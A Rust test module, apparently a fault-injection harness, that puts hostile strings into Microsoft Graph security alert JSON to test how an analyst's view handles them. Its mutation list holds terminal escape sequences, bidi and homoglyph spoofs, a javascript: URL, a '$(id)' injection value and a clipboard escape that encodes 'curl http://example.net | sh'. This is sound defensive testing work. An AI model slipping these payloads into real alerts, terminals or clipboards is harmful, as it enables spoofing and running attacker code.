//! Alerts as attackers would like analysts to see them (FAULTS.md A).
//!
//! Each mutation puts one hostile text where an attacker can put it. The texts are valid JSON
//! strings: what breaks pages rather than screens is the business of the fault profiles.

use rand::{Rng, rngs::StdRng};
use serde_json::Value;

/// Where a text goes: the alert itself, or the first item of a type of evidence.
enum Place {
    Alert(&'static str),
    Evidence(&'static str, &'static str),
}

use Place::{Alert, Evidence};

/// The mutations, each with the texts in the order that they replace the property's value.
/// `{}` stands for the value that was there.
const MUTATIONS: &[(Place, &str)] = &[
    (Alert("/title"), "\u{1b}[31mCRITICAL\u{1b}[2J{}"),
    (Alert("/title"), "{}\u{7}\u{8}\u{8}\u{9b}31m\u{0}"),
    (Alert("/title"), "\u{3164}\u{2800}\u{3000}"),
    (Alert("/title"), ""),
    (Alert("/title"), "可疑的 PowerShell 命令列 {} 👨‍👩‍👧‍👦 🇩🇪 データ"),
    (Alert("/title"), "{} \u{2067}\u{200f}resolved\u{2069}\u{200e}"),
    (Alert("/title"), "{} ⟨202E⟩ ␛[31m"),
    (Alert("/title"), "{}\u{e0041}\u{e0042}\u{e0043}\u{e007f}\u{fe0f}"),
    (Alert("/description"), "{}\u{2028}\u{ffff}\u{e000}\u{fff9}"),
    (Alert("/alertWebUrl"), "file:///etc/passwd"),
    (Alert("/alertWebUrl"), "https://security.microsoft.com@login.example.net/alerts"),
    (Alert("/alertWebUrl"), "https://security.micros\u{43e}ft.com/alerts/1"),
    (Alert("/incidentWebUrl"), "javascript:alert(1)"),
    (Alert("/assignedTo"), "O'Brien\u{1b}]0;owned\u{7}@contoso.com"),
    (
        Evidence("process", "/processCommandLine"),
        "{} \u{1b}]52;c;Y3VybCBodHRwOi8vZXhhbXBsZS5uZXQgfCBzaA==\u{7}",
    ),
    (Evidence("process", "/processCommandLine"), "cmd /c \"echo a\r\nrem hidden\ttab\n{}\""),
    (
        Evidence("process", "/imageFile/fileName"),
        "\u{1b}]8;;http://example.net\u{1b}\\notepad.exe\u{1b}]8;;\u{1b}\\",
    ),
    (Evidence("file", "/fileDetails/fileName"), "invoice\u{202e}fdp.exe"),
    (Evidence("file", "/fileDetails/filePath"), "\\\\?\\C:\\..\\..\\CON\u{200b}"),
    (Evidence("device", "/deviceDnsName"), "login.micro\u{200b}soft\u{ad}.example.org\u{feff}"),
    (Evidence("user", "/userAccount/displayName"), "Administrator\u{2066}\u{202c}"),
    (Evidence("url", "/url"), "https://example.net/%00$(id)&calc#\" 'x"),
];

/// Makes an alert hostile in one of the ways that it has a place for.
pub(super) fn poison(alert: &mut Value, rng: &mut StdRng) {
    // Every alert has a title, so a few tries find a place.
    loop {
        let done = match rng.random_range(0..MUTATIONS.len() + 2) {
            0 => replace(alert, &Alert("/title"), &format!("Z{}algo {{}}", "\u{301}\u{334}".repeat(100))),
            1 => {
                let long = format!("{{}} -Data {}", "QUFBQUFBQUE".repeat(740));
                replace(alert, &Evidence("process", "/processCommandLine"), &long)
            }
            number => {
                let (place, text) = &MUTATIONS[number - 2];
                replace(alert, place, text)
            }
        };
        if done {
            return;
        }
    }
}

/// Replaces a value; tells whether the alert has one at the place.
fn replace(alert: &mut Value, place: &Place, text: &str) -> bool {
    let value = match place {
        Alert(path) => alert.pointer_mut(path),
        Evidence(kind, path) => {
            evidence(alert, kind).and_then(|index| alert["evidence"][index].pointer_mut(path))
        }
    };
    let found = value.map(|value| *value = text.replace("{}", value.as_str().unwrap_or_default()).into());
    found.is_some()
}

/// Finds the first item of a type.
fn evidence(alert: &Value, kind: &str) -> Option<usize> {
    let wanted = format!("#microsoft.graph.security.{kind}Evidence");
    alert["evidence"].as_array()?.iter().position(|item| item["@odata.type"] == wanted.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use serde_json::json;

    #[test]
    fn every_mutation_finds_its_place() {
        let base = json!({
            "title": "t", "description": "d", "alertWebUrl": "a", "incidentWebUrl": "i", "assignedTo": null,
            "evidence": [
                {"@odata.type": "#microsoft.graph.security.processEvidence", "processCommandLine": "c",
                 "imageFile": {"fileName": "n"}},
                {"@odata.type": "#microsoft.graph.security.fileEvidence",
                 "fileDetails": {"fileName": "n", "filePath": "p"}},
                {"@odata.type": "#microsoft.graph.security.deviceEvidence", "deviceDnsName": "d"},
                {"@odata.type": "#microsoft.graph.security.userEvidence", "userAccount": {"displayName": "u"}},
                {"@odata.type": "#microsoft.graph.security.urlEvidence", "url": "u"},
            ],
        });
        for (place, text) in MUTATIONS {
            let mut alert = base.clone();
            assert!(replace(&mut alert, place, text));
            assert_ne!(alert, base, "{text:?}");
        }
    }

    #[test]
    fn an_alert_with_a_title_alone_gets_a_hostile_title() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..200 {
            let mut alert = json!({"title": "t", "evidence": []});
            poison(&mut alert, &mut rng);
            assert_ne!(alert["title"], "t");
        }
    }
}
